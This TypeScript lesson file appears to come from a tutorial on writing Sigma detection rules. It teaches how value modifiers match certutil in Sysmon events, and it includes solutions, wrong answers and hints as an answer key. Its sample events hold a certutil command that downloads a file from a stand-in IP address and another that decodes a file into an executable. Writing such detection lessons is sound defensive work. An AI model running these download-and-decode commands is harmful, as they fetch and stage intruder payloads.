import type { RuleLesson } from '../../../src/teach';

const rule = (lines: string) => `title: Certutil Started
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        ${lines}
    condition: selection
level: medium
`;

const event = (image: string, command: string, user = 'LAB\\mara') =>
  JSON.stringify({
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Image: image,
    CommandLine: command,
    User: user,
  });

export const partOfAValue: RuleLesson = {
  id: 'part-of-a-value',
  title: 'The beginning, the end, or any part',
  chapter: 'Fields and values',
  teaches: 'How `contains`, `startswith` and `endswith` look at a part of a value',
  minutes: 4,
  text: `Certutil manages certificates. It also downloads and decodes files, and every Windows has it, so intruders like it.

A plain value is compared with the **whole** value of the field. \`Image\` holds the whole path of a program, so \`Image: 'certutil.exe'\` finds nothing.

A **modifier** behind a bar says which part to look at:

- \`startswith\`: the value begins with it
- \`endswith\`: the value ends with it
- \`contains\`: it stands anywhere

For example, \`CommandLine|contains: ' -urlcache '\` finds that option wherever it stands in a command.

For the name of a program, take the end of the path **with its last backslash**. Without the backslash, other programs whose names only end alike match too. \`contains\` is too much: it also finds longer names, and folders.`,
  task: 'rule',
  goal: 'Find certutil, wherever it is: events 1 and 2. Leave 3 and 4.',
  rule: rule("Image: 'certutil.exe'"),
  events: `${[
    event('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://192.0.2.44/a.txt a.txt'),
    event('C:\\Users\\Public\\certutil.exe', 'certutil.exe -decode a.txt a.exe', 'LAB\\kai'),
    event('C:\\Program Files\\LabTools\\labcertutil.exe', 'labcertutil.exe --list'),
    event('C:\\Windows\\System32\\cmd.exe', 'cmd /c dir C:\\Windows\\System32\\certutil.exe'),
  ].join('\n')}\n`,
  expected: ['match', 'match', 'no match', 'no match'],
  held: [
    {
      kind: 'certutil in another folder',
      text: event('D:\\tmp\\x\\certutil.exe', 'D:\\tmp\\x\\certutil.exe -encode b.zip b.txt', 'LAB\\ben'),
      expected: 'match',
      tip: 'Say how the path ends, and nothing of the folders before.',
    },
    {
      kind: 'a program that lies in a folder of that name',
      text: event('C:\\Tools\\certutil.exe.unpacked\\setup.exe', 'setup.exe /quiet'),
      expected: 'no match',
      tip: 'Look at the end of the path only.',
    },
    {
      kind: 'another program whose name only ends alike',
      text: event('D:\\build\\mycertutil.exe', 'mycertutil.exe'),
      expected: 'no match',
      tip: 'Let the value begin with a backslash: it is the border between the folder and the name.',
    },
  ],
  solutions: [
    {
      does: 'It asks how the path ends, and the backslash is the border of the name.',
      rule: rule(String.raw`Image|endswith: '\certutil.exe'`),
    },
    {
      does: 'A wildcard before the backslash means the same as `endswith`.',
      rule: rule(String.raw`Image: '*\certutil.exe'`),
    },
    {
      does: 'An expression that stands at the end; in it a backslash is written twice.',
      rule: rule(String.raw`Image|re: '\\certutil\.exe$'`),
    },
  ],
  wrong: [
    {
      what: 'Looks for the name anywhere in the path',
      rule: rule("Image|contains: 'certutil.exe'"),
      hint: { about: 'event 3', says: '`Image|contains`' },
    },
    {
      what: 'Leaves the backslash out',
      rule: rule("Image|endswith: 'certutil.exe'"),
      hint: { about: 'event 3', says: 'Begin the value with a backslash' },
    },
    {
      what: 'Lists the paths on screen',
      rule: rule(String.raw`Image:
            - 'C:\Windows\System32\certutil.exe'
            - 'C:\Users\Public\certutil.exe'`),
      hint: { about: 'certutil in another folder', says: 'how the path ends' },
    },
    {
      what: 'Looks in the command line',
      rule: rule("CommandLine|contains: 'certutil'"),
      hint: { about: 'event 3', says: '`CommandLine|contains`' },
    },
    {
      what: 'Has the backslash, but looks anywhere',
      rule: rule(String.raw`Image|contains: '\certutil.exe'`),
      hint: { about: 'a program that lies in a folder of that name', says: 'at the end (`endswith`)' },
    },
  ],
  hints: [
    'What do the two paths have in common?',
    'They end alike. The backslash belongs to it.',
    "Write `Image|endswith: '\\certutil.exe'`.",
  ],
  starts: { in: 'rule', select: 'Image' },
};
